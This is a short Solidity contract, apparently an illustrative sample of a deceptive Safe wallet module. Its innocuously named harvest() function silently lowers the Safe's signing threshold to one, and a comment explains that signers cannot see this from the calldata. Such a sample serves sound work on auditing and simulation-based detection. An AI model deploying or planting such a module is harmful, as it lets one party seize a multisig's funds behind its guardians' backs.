// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IModuleManager {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation) external returns (bool success);
}

/// A contract whose one function reads like routine upkeep. Once enabled as a module of the Safe, calling it
/// makes the Safe lower its own threshold: the calldata the guardians sign says nothing of that, only the
/// simulation can.
contract HiddenModule {
    address public immutable safe;

    constructor(address safe_) {
        safe = safe_;
    }

    function harvest() external {
        bool ok = IModuleManager(safe).execTransactionFromModule(safe, 0, abi.encodeWithSignature("changeThreshold(uint256)", 1), 0);
        require(ok, "module call failed");
    }
}
